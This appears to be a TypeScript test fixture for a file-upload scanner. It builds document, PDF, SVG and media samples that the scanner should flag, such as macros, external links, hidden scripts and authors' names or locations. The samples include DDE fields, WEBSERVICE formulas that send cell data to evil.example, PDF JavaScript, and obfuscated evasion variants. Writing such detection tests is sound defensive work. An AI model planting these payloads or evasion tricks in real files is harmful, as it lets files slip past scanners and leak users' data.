import { joined, mp4, mp4Box, odf, ooxml, pdf, pdfStream, photo, raw, rels, svg, zip } from './upload-files.ts';
import { id3, id3Frame, mp3Sound, webm, webmTag } from './upload-films.ts';
import type { Row } from './upload-rows-files.ts';

const word = (parts: Readonly<Record<string, string | Uint8Array>>) => ooxml('docx', { parts });
const field = (code: string) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${code}<w:r><w:fldChar w:fldCharType="separate"/></w:r>`;
const instruction = (text: string) => `<w:instrText>${text}</w:instrText>`;
const documentOf = (inside: string) => `<w:a xmlns:w="urn:w">${inside}</w:a>`;
const sheet = (formula: string) =>
  ooxml('xlsx', { parts: { 'xl/worksheets/sheet1.xml': `<worksheet xmlns="urn:x"><f>${formula}</f></worksheet>` } });
const slide = (action: string) =>
  ooxml('pptx', { parts: { 'ppt/slides/slide1.xml': `<p:sld xmlns:p="urn:p"><p:a action="${action}"/></p:sld>` } });
const script = '3 0 << /S /JavaScript /JS (app.alert(1)) >>';
const core = (inside: string) => `<cp:coreProperties xmlns:cp="c" xmlns:dc="d">${inside}</cp:coreProperties>`;

/** What may act when a file is opened, and names of people in its properties. */
export const active: readonly Row[] = [
  [
    'dde-v-glossarii.docx',
    'upload-macro',
    word({ 'word/glossary/document.xml': documentOf(instruction('DDE c:\\a')) }),
  ],
  ['dde-v-kuskah.docx', 'upload-macro', ooxml('docx', { body: field(instruction('D') + instruction('DE a')) })],
  ['vstavka-fajla.docx', 'upload-external', ooxml('docx', { body: field(instruction('INCLUDETEXT "c:\\a.docx"')) })],
  ['pole-v-pole.docx', 'upload-unchecked', ooxml('docx', { body: field(field(instruction('QUOTE 68 68 69'))) })],
  [
    'polya.docx',
    'ok',
    ooxml('docx', {
      body: `${field(instruction(' PAGE '))}${field(instruction(' IF ') + field(instruction('PAGE')))}<w:fldSimple w:instr=" SEQ Рисунок "/>`,
    }),
  ],
  ['s-html-vnutri.docx', 'upload-embedded', word({ 'word/_rels/document.xml.rels': rels(['aFChunk', 'a.htm']) })],
  ['s-nadstrojkoj.docx', 'upload-unchecked', word({ '_rels/.rels': rels(['webextension', 'a.xml']) })],
  [
    'so-sliyaniem.docx',
    'upload-external',
    word({ 'word/_rels/settings.xml.rels': rels(['mailMergeSource', 'file:///c:/a.csv', true]) }),
  ],
  ['s-zaprosom.xlsx', 'upload-external', sheet('WEBSERVICE("http://evil.example/"&amp;A1)')],
  ['s-serverom.xlsx', 'upload-external', sheet('RTD("a.b",,"c")')],
  ['s-bukvoj-chislom.xlsx', 'upload-unchecked', sheet('&#87;EBSERVICE(A1)')],
  ['s-razrezom.xlsx', 'upload-unchecked', sheet('WEB<!-- -->SERVICE(A1)')],
  [
    's-listom-pod-imenem-zametok.xlsx',
    'upload-external',
    ooxml('xlsx', {
      parts: { 'xl/comments1.xml': '<worksheet xmlns="u"><f>WEBSERVICE("http://evil.example/")</f></worksheet>' },
    }),
  ],
  [
    's-listom-v-inoj-kodirovke.xlsx',
    'upload-unchecked',
    ooxml('xlsx', { parts: { 'xl/worksheets/sheet1.xml': '<?xml version="1.0" encoding="UTF-7"?><worksheet/>' } }),
  ],
  [
    's-dokumentom-v-storone.docx',
    'upload-unchecked',
    word({ '_rels/.rels': rels(['officeDocument', 'a/b.dat']), 'a/b.dat': documentOf(instruction('DDE c:\\a')) }),
  ],
  ['s-polyami-v-papke-xl.docx', 'upload-macro', word({ 'xl/a.xml': documentOf(instruction('DDE c:\\a')) })],
  [
    's-obnovleniem.odt',
    'upload-external',
    odf('text', { parts: { 'meta.xml': '<m:auto-reload xmlns:m="m" xmlns:x="x" x:href="http://evil.example/"/>' } }),
  ],
  ['s-formuloj.xlsx', 'ok', sheet('SUM(A1:A9)')],
  [
    's-podklyucheniem.xlsx',
    'upload-external',
    ooxml('xlsx', { parts: { 'xl/_rels/workbook.xml.rels': rels(['connections', 'connections.xml']) } }),
  ],
  ['s-programmoj.pptx', 'upload-macro', slide('ppaction://program')],
  ['s-perehodom.pptx', 'ok', slide('ppaction://hlinksldjump')],
  ['s-zapuskom.odp', 'upload-macro', odf('presentation', { body: '<draw:a draw:action="execute"/>' })],
  [
    's-zaprosom.ods',
    'upload-external',
    odf('spreadsheet', { body: '<draw:a draw:formula="of:=WEBSERVICE(&quot;a&quot;)"/>' }),
  ],
  [
    'so-skrytym-tipom.pdf',
    'upload-pdf',
    pdf([pdfStream(script, '/Type (a obj b) /Type /Obj#53tm /N 1 /First 4 /Filter /Fl#61teDecode')]),
  ],
  ['bez-tipa.pdf', 'upload-pdf', pdf([pdfStream(script, '/N 1 /First 4 /Filter /FlateDecode % obj\n')])],
  [
    's-obmanom-v-stroke.pdf',
    'upload-pdf',
    pdf([pdfStream(script, '/A (endstream stream\n) /Type /ObjStm /Filter /FlateDecode')]),
  ],
  ['so-stilem-v-kuskah.svg', 'upload-svg', svg('<style>a{fill:u<![CDATA[rl(//evil.example/a)]]>}</style>')],
  ['so-stilem-i-zametkoj.svg', 'upload-svg', svg('<style>@imp<!-- а -->ort "//evil.example"</style>')],

  ['s-imenami.docx', 'upload-person', word({ 'docProps/core.xml': core('<dc:creator>Иванова А. В.</dc:creator>') })],
  [
    's-imenem.odt',
    'upload-person',
    zip({
      mimetype: 'application/vnd.oasis.opendocument.text',
      'content.xml': '<a/>',
      'meta.xml': core('<dc:creator>Иванова А. В.</dc:creator>'),
    }),
  ],
  ['s-imenem.pdf', 'upload-person', pdf(['<< /Author (Ivanova \\(5 \\"B\\"\\)) >>'])],
  ['s-imenem-v-kodah.pdf', 'upload-person', pdf(['<< /Author <FEFF0418> >>'])],
  [
    's-imenem.svg',
    'upload-person',
    svg(
      '<metadata><a xmlns="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>Иванова</dc:creator></a></metadata>',
    ),
  ],
  ['s-imenem.mp4', 'upload-person', mp4(mp4Box('\xa9ART', raw('\0\0\0\0'), 'Иванова'))],
  [
    's-telemetriej.mp4',
    'upload-unchecked',
    joined(mp4(), mp4Box('moov', mp4Box('trak', mp4Box('mdia', mp4Box('hdlr', raw('\0\0\0\0\0\0\0\0meta')))))),
  ],
  ['s-imenem.mp3', 'upload-person', joined(id3(id3Frame('TPE1', 'Иванова Анна')), mp3Sound())],
  ['s-imenem.webm', 'upload-person', webm([], [webmTag('ARTIST', 'Иванова Анна')])],
  ['s-mestom.webm', 'upload-location', webm([], [webmTag('LOCATION', '+55.75+037.61/')], true)],
  ['s-foto.docx', 'upload-location', word({ 'word/media/image1.jpeg': await photo('jpeg', { located: true }) })],
  ['s-foto.pdf', 'upload-location', pdf([await photo('jpeg', { located: true })])],
  [
    's-imenem-v-opisanii.pdf',
    'upload-pdf',
    pdf([pdfStream('<dc:creator>Иванова</dc:creator>', '/Type /Metadata /Subtype /XML /Filter /FlateDecode')]),
  ],
  ['s-zametkoj-v-klyuche.pdf', 'upload-pdf', pdf(['<< /EF % a >>\n<< /F 5 0 R >> >>'])],
  ['s-nulyom-v-klyuche.pdf', 'upload-pdf', pdf([raw('<< /S /URI /JS\0% a\n\0(app.alert(1)) >>')])],
];
